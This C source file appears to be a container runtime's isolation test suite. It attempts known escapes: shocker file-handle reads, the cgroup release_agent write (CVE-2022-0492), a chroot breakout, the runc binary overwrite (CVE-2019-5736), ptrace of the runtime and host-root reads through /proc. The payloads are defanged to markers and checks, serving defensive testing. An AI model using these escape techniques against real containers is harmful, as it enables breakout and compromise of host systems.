/* Multi-step escapes: file handles (shocker), cgroup v1 release_agent, chroot,
 * and reaching the runtime's own process or binary from inside. */
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <time.h>

#include "common.h"

static long long now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1000LL + ts.tv_nsec / 1000000;
}

/* Run on the host: the file handle of PATH, for `shocker`. */
int attack_gethandle(int argc, char **argv)
{
    NEED_ARGS(2);
    struct {
        struct file_handle fh;
        unsigned char bytes[MAX_HANDLE_SZ];
    } h;
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    TRY("name_to_handle_at", name_to_handle_at(AT_FDCWD, argv[1], &h.fh, &mount_id, 0));
    printf("RESULT ok %d ", h.fh.handle_type);
    for (unsigned i = 0; i < h.fh.handle_bytes; i++)
        printf("%02x", h.fh.f_handle[i]);
    printf("\n");
    return 0;
}

/* "shocker" (2014): open a file of the host by its handle, relative to any fd
 * on the same file system, around the mount namespace and chroot. */
int attack_shocker(int argc, char **argv)
{
    NEED_ARGS(3);
    struct {
        struct file_handle fh;
        unsigned char bytes[MAX_HANDLE_SZ];
    } h;
    size_t len = strlen(argv[2]) / 2;
    if (len > MAX_HANDLE_SZ)
        usage_error("handle too long");
    h.fh.handle_type = atoi(argv[1]);
    h.fh.handle_bytes = (unsigned)len;
    for (size_t i = 0; i < len; i++)
        sscanf(argv[2] + 2 * i, "%2hhx", &h.fh.f_handle[i]);
    int mfd = (int)TRY("open-root", open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    int fd = (int)TRY("open_by_handle_at", open_by_handle_at(mfd, &h.fh, O_RDONLY));
    char buf[256];
    ssize_t n = TRY("read", read(fd, buf, sizeof buf - 1));
    buf[n] = 0;
    buf[strcspn(buf, "\n")] = 0;
    ok("read a host file by handle: \"%s\"", buf);
}

static void write_file(const char *path, const char *s)
{
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0 || write(fd, s, strlen(s)) < 0)
        fail(path, errno);
    close(fd);
}

/* Mount a new, empty cgroup v1 hierarchy and write its release_agent — the
 * program the host kernel runs, as root, when a cgroup empties. */
__attribute__((noreturn)) static void release_agent(const char *name, const char *dir)
{
    char opts[128], path[256], buf[4096];
    snprintf(opts, sizeof opts, "none,name=%s", name);
    TRY("mount-cgroup", mount("cgroup", dir, "cgroup", 0, opts));
    snprintf(path, sizeof path, "%s/release_agent", dir);
    int fd = (int)TRY("open-release_agent", open(path, O_RDWR | O_CLOEXEC));
    ssize_t n = TRY("read-release_agent", read(fd, buf, sizeof buf));
    if (n == 0)
        buf[n++] = '\n';  /* empty: a newline writes the same empty value */
    if (pwrite(fd, buf, (size_t)n, 0) < 0) {
        int err = errno;
        umount2(dir, MNT_DETACH);
        fail("write-release_agent", err);
    }
    close(fd);
    umount2(dir, MNT_DETACH);
    ok("wrote release_agent of a cgroup v1 hierarchy (name=%s)", name);
}

/* CVE-2022-0492 as published: unshare user + mount + cgroup namespaces, then
 * mount cgroup v1 and write release_agent. */
int attack_release_agent_userns(int argc, char **argv)
{
    NEED_ARGS(2);
    const char *dir = "/dev/shm/capsa-cg";
    mkdir(dir, 0755);
    TRY("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP));
    /* Map root to root (allowed for one's own uid) so DAC checks work inside. */
    write_file("/proc/self/setgroups", "deny");
    write_file("/proc/self/uid_map", "0 0 1");
    write_file("/proc/self/gid_map", "0 0 1");
    release_agent(argv[1], dir);
}

/* The same without a user namespace: a container with CAP_SYS_ADMIN. */
int attack_release_agent_direct(int argc, char **argv)
{
    NEED_ARGS(2);
    const char *dir = "/dev/shm/capsa-cg";
    mkdir(dir, 0755);
    release_agent(argv[1], dir);
}

/* The classic chroot break-out: chroot into a subdirectory while the working
 * directory stays outside, climb with "..", chroot("."). Succeeds if "/" is
 * then the host's root (its device and inode are the arguments). */
int attack_chroot_escape(int argc, char **argv)
{
    NEED_ARGS(3);
    const char *dir = "/dev/shm/capsa-chroot";
    mkdir(dir, 0755);
    TRY("chroot", chroot(dir));
    for (int i = 0; i < 64; i++)
        chdir("..");
    TRY("chroot-dot", chroot("."));
    struct stat st;
    TRY("stat-root", stat("/", &st));
    char want[64], got[64];
    snprintf(want, sizeof want, "%s:%s", argv[1], argv[2]);
    snprintf(got, sizeof got, "%llu:%llu", (unsigned long long)st.st_dev,
             (unsigned long long)st.st_ino);
    if (strcmp(want, got)) {
        printf("root after the escape attempt is %s, the host's is %s\n", got, want);
        fail("still-inside", EPERM);
    }
    ok("reached the host's root directory (%s)", got);
}

/* The first process other than ourselves and pid 1 whose comm starts with
 * `comm` (any, for NULL), before the deadline. */
static pid_t find_process(const char *comm, long long deadline)
{
    pid_t self = getpid();
    while (now_ms() < deadline) {
        DIR *d = opendir("/proc");
        if (!d)
            fail("opendir-proc", errno);
        for (struct dirent *de; (de = readdir(d));) {
            if (!isdigit((unsigned char)de->d_name[0]))
                continue;
            pid_t pid = atoi(de->d_name);
            if (pid == self || pid == 1)
                continue;
            if (comm) {
                char path[64], c[32] = "";
                snprintf(path, sizeof path, "/proc/%d/comm", (int)pid);
                int fd = open(path, O_RDONLY | O_CLOEXEC);
                if (fd < 0)
                    continue;
                ssize_t n = read(fd, c, sizeof c - 1);
                close(fd);
                if (n <= 0)
                    continue;
                if (strncmp(c, comm, strlen(comm)))
                    continue;
            }
            closedir(d);
            return pid;
        }
        closedir(d);
    }
    return -1;
}

/* CVE-2019-5736: catch a process running the runtime's binary (a `capsa exec`
 * of "#!/proc/self/exe"), keep a descriptor of its exe, and once it exits
 * reopen that for writing and append to it. */
int attack_exe_overwrite(int argc, char **argv)
{
    NEED_ARGS(2);
    long long deadline = now_ms() + atoi(argv[1]);
    pid_t self = getpid();
    int exefd = -1;
    struct stat st;
    char link[256] = "?";
    while (exefd < 0 && now_ms() < deadline) {
        DIR *d = opendir("/proc");
        if (!d)
            fail("opendir-proc", errno);
        for (struct dirent *de; exefd < 0 && (de = readdir(d));) {
            if (!isdigit((unsigned char)de->d_name[0]) || atoi(de->d_name) == self)
                continue;
            char path[300];
            snprintf(path, sizeof path, "/proc/%s/exe", de->d_name);
            exefd = open(path, O_RDONLY | O_CLOEXEC);
            if (exefd >= 0) {
                ssize_t n = readlink(path, link, sizeof link - 1);
                link[n > 0 ? n : 0] = 0;
            }
        }
        closedir(d);
    }
    if (exefd < 0)
        fail("catch-runtime", ESRCH);
    fstat(exefd, &st);
    printf("CAUGHT exe=%s dev=%u:%u ino=%llu size=%lld\n", link, major(st.st_dev),
           minor(st.st_dev), (unsigned long long)st.st_ino, (long long)st.st_size);
    char fdpath[64];
    snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exefd);
    int w = -1, err = ETIMEDOUT;
    while (now_ms() < deadline) {
        w = open(fdpath, O_WRONLY | O_CLOEXEC);
        if (w >= 0)
            break;
        err = errno;
        if (err != ETXTBSY)
            fail("open-exe-for-write", err);
        usleep(2000);
    }
    if (w < 0)
        fail("open-exe-for-write", err);
    static const char mark[] = "\nCVE-2019-5736 was here\n";
    if (pwrite(w, mark, sizeof mark - 1, st.st_size) < 0)
        fail("write-exe", errno);
    ok("appended to the runtime binary %s", link);
}

/* runtime_* TIMEOUT_MS [GOFILE]: wait for GOFILE to exist, then for a process
 * named capsa* (another container's init joined to our pid namespace and left
 * waiting on its exec fifo by `create`). */
static pid_t find_runtime(int argc, char **argv)
{
    long long deadline = now_ms() + atoi(argv[1]);
    while (argc > 2 && access(argv[2], F_OK) < 0 && now_ms() < deadline)
        usleep(5000);
    return find_process("capsa", deadline);
}

/* The runtime itself inside the container: open its exe, or ptrace it. */
int attack_runtime_exe(int argc, char **argv)
{
    NEED_ARGS(2);
    pid_t pid = find_runtime(argc, argv);
    if (pid < 0)
        fail("find-runtime", ESRCH);
    char path[64], link[256] = "?";
    snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
    int fd = (int)TRY("open-exe", open(path, O_RDONLY | O_CLOEXEC));
    ssize_t n = readlink(path, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    close(fd);
    ok("opened the exe of runtime pid %d: %s", (int)pid, link);
}

int attack_runtime_ptrace(int argc, char **argv)
{
    NEED_ARGS(2);
    pid_t pid = find_runtime(argc, argv);
    if (pid < 0)
        fail("find-runtime", ESRCH);
    TRY("ptrace-attach", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
    int st;
    waitpid(pid, &st, __WALL);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    ok("attached to runtime pid %d", (int)pid);
}

/* proc_root_read TIMEOUT_MS HOSTPATH: a process that appears in our pid namespace
 * while it still has the host's root (a runtime's child joining the container
 * in the wrong order) is caught through /proc/PID/root, which needs only
 * ptrace read access (CAP_SYS_PTRACE, no ptrace syscall). The next pids are
 * guessed from ns_last_pid; prints the host file's first line. */
int attack_proc_root_read(int argc, char **argv)
{
    NEED_ARGS(3);
    long long deadline = now_ms() + atoi(argv[1]);
    const char *host = argv[2];
    while (now_ms() < deadline) {
        char buf[32] = "";
        int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
        if (f < 0)
            fail("ns_last_pid", errno);
        ssize_t n = read(f, buf, sizeof buf - 1);
        close(f);
        int last = n > 0 ? atoi(buf) : 0;
        for (int k = 0; k <= 4; k++) {
            char path[4200];
            snprintf(path, sizeof path, "/proc/%d/root%s", last + k, host);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            char line[128] = "";
            ssize_t r = read(fd, line, sizeof line - 1);
            close(fd);
            line[r > 0 ? r : 0] = 0;
            line[strcspn(line, "\n")] = 0;
            ok("read the host's %s through /proc/%d/root: %s", host, last + k, line);
        }
    }
    fail("find-host-root", ETIMEDOUT);
}
